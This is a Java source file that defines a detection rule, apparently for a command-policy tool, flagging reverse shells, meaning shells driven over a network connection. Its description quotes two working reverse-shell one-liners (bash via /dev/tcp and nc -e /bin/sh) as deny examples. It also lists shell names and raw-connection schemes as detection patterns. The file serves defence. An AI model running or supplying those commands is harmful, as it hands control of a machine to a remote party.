package dev.cattlegrid.policy.rule;

import dev.cattlegrid.effect.Effect;
import dev.cattlegrid.effect.Endpoint;
import dev.cattlegrid.effect.Source;
import dev.cattlegrid.flow.Flow;
import dev.cattlegrid.flow.Label;
import dev.cattlegrid.policy.About;
import dev.cattlegrid.policy.Facts;
import dev.cattlegrid.policy.Finding;
import dev.cattlegrid.policy.Rule;
import dev.cattlegrid.policy.Strength;
import dev.cattlegrid.policy.Topic;
import java.util.EnumSet;
import java.util.Set;
import java.util.stream.Stream;

final class ReverseShell implements Rule {
    private static final Set<String> SHELLS =
            Set.of("sh", "bash", "zsh", "dash", "ksh", "ash", "csh", "tcsh", "fish", "script");

    private static final About ABOUT =
            About.of(
                    About.Group.CROSS_A_TRUST_BOUNDARY,
                    """
                    # reverse-shell: a shell would be driven by another machine

                    Its commands come from a network connection, so whoever is at the other end controls this machine.

                    deny: bash -i >& /dev/tcp/10.0.0.1/4242 0>&1
                    deny: nc -e /bin/sh 10.0.0.1 4242
                    allow: nc -z localhost 5432
                    """);

    @Override
    public About about() {
        return ABOUT;
    }

    @Override
    public Strength strength() {
        return Strength.HARD;
    }

    @Override
    public Set<Topic> topics() {
        return EnumSet.of(Topic.FLOW, Topic.SEND);
    }

    @Override
    public Stream<Finding> look(Facts facts) {
        Stream<Finding> driven =
                facts.flows().stream()
                        .filter(ReverseShell::isDriven)
                        .map(flow ->
                                found(
                                        flow.to(),
                                        "a shell would take its commands from "
                                                + FlowRule.name(flow.from())));
        Stream<Finding> given =
                facts.effects(Effect.Send.class)
                        .filter(ReverseShell::isShell)
                        .map(send ->
                                found(
                                        send,
                                        "a shell would be handed to "
                                                + EffectRule.or(
                                                        send.to().host(), "another machine")));
        return Stream.concat(driven, given);
    }

    private Finding found(Effect effect, String reason) {
        return Finding.of(this, effect, reason);
    }

    private static boolean isDriven(Flow flow) {
        return flow.label() == Label.UNTRUSTED
                && flow.to() instanceof Effect.Run
                && isRaw(flow.from());
    }

    private static boolean isShell(Effect.Send send) {
        return send.to().scope() != Endpoint.Scope.LOOPBACK
                && (send.verb().equals("shell")
                        || isBare(send.to())
                                && send.data().sources().stream()
                                        .anyMatch(source ->
                                                source instanceof Source.Program(var name)
                                                        && SHELLS.contains(name)));
    }

    /// A bare connection, over which somebody types rather than serves a file.
    static boolean isRaw(Source source) {
        return source instanceof Source.Network(var endpoint) && isBare(endpoint);
    }

    private static boolean isBare(Endpoint endpoint) {
        return switch (endpoint.scheme()) {
            case "tcp", "udp", "nc", "socket", "ssl", "tls", "telnet", "sctp", "dns", "icmp" ->
                    true;
            default -> false;
        };
    }
}
